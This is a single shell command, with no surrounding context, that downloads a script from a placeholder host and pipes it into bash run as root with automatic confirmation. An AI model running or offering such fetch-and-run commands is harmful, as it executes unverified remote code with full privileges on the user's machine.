curl -fsSL https://x/i.sh | sudo bash -s -- -y
